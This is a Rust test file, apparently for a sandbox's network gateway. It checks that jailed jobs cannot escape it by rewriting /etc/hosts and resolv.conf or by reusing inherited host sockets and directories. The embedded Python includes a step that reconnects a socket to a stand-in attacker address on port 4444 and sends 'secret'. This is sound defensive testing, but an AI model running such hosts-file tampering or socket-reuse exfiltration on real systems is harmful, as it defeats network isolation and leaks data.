//! Ways to change what the gateway goes by: the files that it reads, and the streams that it passes on.

use crate::jail::{Jail, quoted_binary};
use crate::suite::{Mode, Suite, both};
use crate::world::World;

pub(crate) fn add(suite: &mut Suite) {
    both!(suite, names_written_into_the_hosts_file, streams_that_lead_elsewhere, streams_of_the_host_itself);
}

/// A job of root may write to the file; its gateway goes by what was in it when the job started.
fn names_written_into_the_hosts_file(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    let script = "echo '198.51.100.66 good.test other.test' >>/etc/hosts; \
                  echo 'nameserver 198.51.100.53' >>/etc/resolv.conf; \
                  curl -sSk --max-time 5 --resolve good.test:80:203.0.113.60 http://good.test/secret; \
                  curl -sSk --max-time 5 --resolve good.test:443:203.0.113.60 https://good.test/secret; \
                  dig +time=2 +tries=1 good.test @192.0.0.1; true";
    let outcome = Jail::new(&world, mode).allow("good.test").allow("203.0.113.60:80").shell(script);
    outcome.assert_success();
    world.assert_attacker_saw_nothing();
    assert!(!outcome.stdout.contains("198.51.100.66"), "{outcome}");
    assert!(site.paths().contains(&"/secret".to_owned()), "{outcome}");
}

/// Sockets of the host as standard input: connected, they can be connected anew; datagrams need not even that.
/// And a directory, from which everything beneath the masks can be opened.
fn streams_that_lead_elsewhere(mode: Mode) {
    const INSIDE: &str = "\
import ctypes, os, socket, stat
if stat.S_ISDIR(os.fstat(0).st_mode):
    os.fchdir(0); print(len(os.listdir('run'))); raise SystemExit
s = socket.socket(fileno=0)
libc = ctypes.CDLL(None)
libc.connect(0, bytes(16), 16)
if s.family == socket.AF_UNIX: s.sendto(b'secret', '\\0of-the-host')
else:
    s.connect(('198.51.100.66', 4444)); s.sendall(b'secret')
print('sent')
";
    let world = World::new();
    let around = |command: &str| {
        format!(
            "import os, socket, subprocess\n\
             receiver = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); receiver.bind('\\0of-the-host')\n\
             udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
             tcp = socket.create_connection(('203.0.113.53', 53))\n\
             pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n\
             for stream in (tcp, udp, pair[0], os.open('/', os.O_RDONLY)):\n\
             \x20   done = subprocess.run({command} + ['/usr/bin/python3', '-c', {INSIDE:?}], stdin=stream, capture_output=True)\n\
             \x20   print(done.returncode, done.stdout.decode().strip(), done.stderr.decode().strip())\n"
        )
    };
    let direct = Jail::direct(&world, mode);
    let jailed = direct.python(&around(&format!("['{}', 'run', '-q', '--']", quoted_binary())));
    jailed.assert_success();
    assert_eq!(jailed.stdout.matches("125 ").count(), 4, "{jailed}");
    assert_eq!(jailed.stdout.matches("standard input is a socket").count(), 3, "{jailed}");
    assert!(!world.attacker().heard(b"secret") && !world.wire().saw_bytes(b"secret"), "{jailed}");
    let open = direct.python(&around("[]"));
    assert_eq!(open.stdout.matches("0 sent").count(), 3, "{open}");
    assert!(world.wire().saw_bytes(b"secret"), "{open}");
}

/// What shells, service managers and other programs give their children.
fn streams_of_the_host_itself(mode: Mode) {
    let world = World::new();
    let script = format!(
        "import socket, subprocess\n\
         run = ['{}', 'run', '-q', '--', 'sh', '-c', 'cat; echo error >&2']\n\
         ours, theirs = socket.socketpair()\n\
         ours.sendall(b'words '); ours.shutdown(socket.SHUT_WR)\n\
         subprocess.run(run, stdin=theirs, stdout=theirs, stderr=theirs, check=True)\n\
         theirs.close()\n\
         print(ours.makefile().read().split())\n\
         subprocess.run(run, stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=True)\n\
         subprocess.run(['sh', '-c', 'exec \"$@\" 0<&- 2>&-', 'sh'] + run[:4] + ['true'], check=True)\n",
        quoted_binary()
    );
    let outcome = Jail::direct(&world, mode).python(&script);
    outcome.assert_success().assert_stdout("['words', 'error']\n");
}
